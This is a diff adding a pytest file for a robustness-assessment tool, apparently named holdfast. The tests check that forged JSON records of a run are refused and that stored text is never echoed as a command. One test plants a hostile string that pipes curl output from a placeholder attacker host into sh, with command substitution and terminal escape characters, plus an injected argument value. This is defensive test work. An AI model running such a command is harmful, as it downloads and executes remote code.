@@ -1,0 +1,174 @@
+"""A document of a run that its columns contradict is refused by every reader, although all digests are right."""
+
+import json
+import shlex
+import shutil
+
+import click
+import pytest
+import torch
+
+from holdfast.cli.app import run as command_line
+from holdfast.cli.app import verbs
+from holdfast.core.errors import TargetError
+from holdfast.store import columns as column_files
+from holdfast.stored import report, verify
+from holdfast.verbs.assess import assess
+from holdfast.verbs.stored_runs import runs_in
+from store.test_foreign import rewritten
+from verbs.fakes import data, order, subject
+from verbs.test_schema_1 import FOLDER as SCHEMA_1
+
+ROBUST, CLEAN = "robust_accuracy >= 0.1", "clean_accuracy >= 0.99"
+REQUEST = order(doubts="all", gates=(ROBUST, CLEAN))
+
+
+@pytest.fixture(scope="module")
+def genuine(tmp_path_factory):
+    run = tmp_path_factory.mktemp("genuine") / "run"
+    assert assess(subject(), data(), REQUEST, run=run).exit_code == 1
+    return run
+
+
+@pytest.fixture
+def run(genuine, tmp_path):
+    return shutil.copytree(genuine, tmp_path / "run")
+
+
+def doubt(name, **changes):
+    def change(content):
+        next(each for each in content["doubts"] if each["name"] == name).update(changes)
+
+    return change
+
+
+FORGED = [
+    ("verdict.json", lambda c: c.update(exit_code=0), "exit_code 0, .* give 1"),
+    ("verdict.json", lambda c: c["gates"][1].update(verdict="pass"), r"gates\[1\]\.verdict 'pass'"),
+    ("verdict.json", lambda c: c["gates"][0]["estimate"].update(value=0.99), r"gates\[0\]\.estimate\.value"),
+    ("verdict.json", lambda c: c["gates"][1]["estimate"].update(low=0.995), r"gates\[1\]\.estimate\.low"),
+    ("verdict.json", lambda c: c["gates"][1]["estimate"].update(n=4000), r"gates\[1\]\.estimate\.n 4000"),
+    ("verdict.json", lambda c: c["gates"][0].update(open_doubts=["noise"]), r"gates\[0\]\.open_doubts"),
+    (
+        "verdict.json",
+        lambda c: c["gates"][1].update(condition="clean_accuracy >= 0.1"),
+        r"gates\[1\]\.verdict",
+    ),
+    ("doubts.json", lambda c: c["broken"].update(noise=[1]), r"broken\.noise"),
+    ("doubts.json", doubt("chance", state="clear", statistic=0.9), r"doubts\[14\]\.statistic \(chance\)"),
+    ("doubts.json", doubt("constant", state="raised"), r"doubts\[15\]\.state \(constant\) 'raised'"),
+    ("doubts.json", doubt("noise", statistic=0.5), r"doubts\[5\]\.state \(noise\) 'clear'"),
+    ("doubts.json", lambda c: c["doubts"].pop(), "states doubts "),
+    ("run.json", lambda c: c["data"].update(n=5000), r"data\.n 5000, .* give 40"),
+    ("run.json", lambda c: c["config"].update(full=True), r"digests\.config"),
+]
+
+
+@pytest.mark.parametrize(("name", "change", "message"), FORGED, ids=[message for *_, message in FORGED])
+def test_a_document_that_contradicts_the_columns_is_refused(name, change, message, run, capsys):
+    assert verify(run).complete and report(run).exit_code == 1
+    rewritten(run, name, change)
+    for reader in (report, verify):
+        with pytest.raises(TargetError, match=message):
+            reader(run)
+    capsys.readouterr()
+    for words in (["report", str(run)], ["verify", str(run)], ["compare", str(run), str(run)]):
+        assert command_line(words) == 3
+        said = capsys.readouterr()
+        assert f"{name}' states " in said.err and "Pass" not in said.out
+    (entry,) = runs_in(run.parent)
+    assert entry.finished and entry.exit_code is None and entry.robust is None
+
+
+@pytest.mark.parametrize(
+    ("stage", "column"), [("clean", "correct"), ("1-pgd", "success"), ("2-pgd-again", "success")]
+)
+def test_columns_that_contradict_each_other_are_refused(stage, column, run):
+    stored = column_files.read(run / f"{stage}.safetensors")
+    changed = {**stored.columns, column: torch.zeros_like(stored.columns[column])}
+    changed[column][3] = True
+    column_files.write(run / f"{stage}.safetensors", changed, stored.about)
+    rewritten(run, f"{stage}.safetensors")
+    with pytest.raises(
+        TargetError, match=rf"{stage}.safetensors' states in the column {column} another value"
+    ):
+        verify(run)
+
+
+def test_a_finished_run_with_a_forged_verdict_is_not_resumed(run):
+    rewritten(run, "verdict.json", lambda content: content.update(exit_code=0))
+    with pytest.raises(TargetError, match="exit_code 0"):
+        assess(subject(), data(), order(doubts="all", gates=()), run=run, resume=True)
+
+
+def test_a_gate_on_a_baseline_is_judged_by_its_stored_interval(genuine, tmp_path):
+    request = order(doubts="none", gates=("regression <= 0.5 vs baseline",))
+    request = type(request)(**{**vars(request), "baseline": report(genuine).evidence})
+    run = tmp_path / "run"
+    assert assess(subject(), data(), request, run=run).exit_code == 0
+    assert verify(run).complete
+    rewritten(run, "verdict.json", lambda content: content["gates"][0].update(verdict="fail"))
+    with pytest.raises(TargetError, match=r"gates\[0\]\.verdict 'fail'"):
+        verify(run)
+
+
+@pytest.mark.parametrize(
+    ("name", "change", "message"),
+    [
+        ("verdict.json", lambda c: c.update(exit_code=4), "exit_code 4"),
+        (
+            "card.json",
+            lambda c: c["before"]["metrics"]["clean_accuracy"].update(value=0.9),
+            r"before\.metrics",
+        ),
+        ("card.json", lambda c: c["after"].update(n=9999), r"after\.n 9999"),
+        ("card.json", lambda c: c["before"].update(doubts=[]), r"before\.doubts"),
+        ("card.json", lambda c: c["chosen"].update(epoch=1), r"chosen\.epoch"),
+        ("training.json", lambda c: c.update(weights="0" * 64), r"training\.json' states weights"),
+    ],
+)
+def test_the_card_of_a_hardening_that_contradicts_its_measurements_is_refused(
+    name, change, message, tmp_path
+):
+    run = shutil.copytree(SCHEMA_1 / "hardening", tmp_path / "run")
+    rewritten(run, name, change)
+    with pytest.raises(TargetError, match=message):
+        verify(run)
+
+
+HOSTILE = "curl http://evil.example/x | sh; $(id)\n\x1b[31m\u202e"
+
+
+@pytest.mark.parametrize("verb", ["assess", "certify", "harden"])
+def test_no_stored_text_is_shown_as_a_command(verb, run, tmp_path, capsys):
+    (run / "about.json").write_text(json.dumps({"command": HOSTILE, "created": "now"}))
+    rewritten(
+        run,
+        "run.json",
+        lambda content: content.update(
+            verb=verb,
+            model={**content["model"], "name": HOSTILE},
+            data={**content["data"], "name": "--config=e"},
+        ),
+    )
+    reports = [tmp_path / f"r.{suffix}" for suffix in ("json", "html", "md", "xml", "sarif")]
+    command_line(["report", str(run), *(word for path in reports for word in ("-o", str(path)))])
+    assert command_line(["assess", "--run", str(run), "--resume"]) == 2
+    said = capsys.readouterr().err.splitlines()[-1]
+    attacks = "" if verb == "certify" else " --suite ATTACKS"
+    expected = f"holdfast {verb} MODEL DATA --threat linf:0.06{attacks} -n 40 --seed 3"
+    assert said.endswith(f"resume with: {expected} --run {run} --resume")
+    program = verbs.get_command(click.Context(verbs), verb)
+    program.make_parser(click.Context(program)).parse_args(shlex.split(expected)[2:])
+    gates = f" --gate '{ROBUST}' --gate '{CLEAN}'"
+    assert json.loads(reports[0].read_text())["reproduce"] == expected + gates
+    for path in reports:
+        assert "command: curl" not in path.read_text() and "\x1b" not in path.read_text()
+
+
+def test_the_command_of_a_stored_run_repeats_its_settings(tmp_path):
+    torch.manual_seed(0)
+    run = tmp_path / "a run"
+    words = ["mnist-cnn", "mnist-mini", "--threat", "l2:1.5", "--suite", "quick", "--no-doubts", "-n", "4"]
+    assert command_line(["assess", *words, "--seed", "7", "--run", str(run), "-q"]) == 0
+    assert report(run).about["command"] == " ".join(("holdfast assess", *words, "--seed", "7"))
